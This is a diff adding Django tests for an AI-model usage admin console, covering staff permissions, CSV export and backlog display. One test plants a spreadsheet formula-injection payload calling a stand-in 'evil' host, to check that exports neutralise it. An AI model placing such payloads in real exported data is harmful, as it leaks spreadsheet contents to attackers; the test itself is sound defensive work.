@@ -101,3 +101,51 @@ def test_summary_api_window_serves_the_dashboard_figures(client, small_model, ad
     refused = client.get("/api/v1/usage/summary/?window=24h&model=x", **headers)
     assert refused.status_code == 400 and "model" in refused.content.decode()
     assert client.get("/api/v1/usage/summary/?window=7d", **headers).status_code == 400
+
+
+@pytest.fixture
+def plain_staff(client, django_user_model):
+    """Staff with no model permissions: the console, but only their own usage."""
+    user = django_user_model.objects.create_user(username="staffer", password="pw-for-tests-only", is_staff=True)
+    client.force_login(user)
+    return user
+
+
+def test_staff_without_the_usage_permission_see_only_their_own(client, plain_staff, small_model, admin_user):
+    theirs = issue_token(name="root-secret-project", owner=admin_user, scopes=["inference"])[0]
+    mine = issue_token(name="mine", owner=plain_staff, scopes=["inference"])[0]
+    _row("t1", theirs, small_model.id)
+    _row("m1", mine, small_model.id)
+    page = client.get("/admin/").content.decode()
+    assert "root-secret-project" not in page and f'data-token="{mine.pk}"' in page
+    assert 'id="own-usage"' in page
+    assert client.get("/admin/live/").status_code == 403
+    assert client.get("/admin/live.json").status_code == 403
+    assert client.get("/admin/playground/").status_code == 403  # may not mint tokens, so no playground token
+
+
+def test_csv_cells_never_run_as_formulas(staff, small_model, admin_user):
+    token = issue_token(name='=HYPERLINK("http://evil/?x="&A1,"x")', owner=admin_user, scopes=["inference"])[0]
+    _row("req_f", token, small_model.id)
+    (row,) = csv.DictReader(io.StringIO(_body(staff.get("/admin/models_app/usagerecord/export.csv"))))
+    assert row["token"].startswith("'=")
+
+
+def test_a_bad_filter_on_the_export_goes_back_to_the_list(staff):
+    response = staff.get("/admin/models_app/usagerecord/export.csv?created_at__gte=notadate")
+    assert response.status_code == 302 and response["Location"].endswith("?e=1")
+
+
+def test_the_export_link_takes_every_page(staff, small_model, api_token):
+    _row("r1", api_token[0], small_model.id)
+    page = staff.get("/admin/models_app/usagerecord/?status__exact=completed&p=1").content.decode()
+    assert "export.csv?status__exact=completed" in page and "export.csv?p=" not in page and "&amp;p=1" not in page
+
+
+def test_a_backlog_is_left_to_celery_beat(staff, small_model, api_token, monkeypatch):
+    for i in range(5):
+        _row(f"r{i}", api_token[0], small_model.id)
+    monkeypatch.setattr("models_app.console.views.FOLD_BATCH", 1)
+    monkeypatch.setattr("models_app.console.views.FOLD_BATCHES", 2)
+    page = staff.get("/admin/").content.decode()
+    assert 'id="backlog"' in page and ">3 finished requests" in page
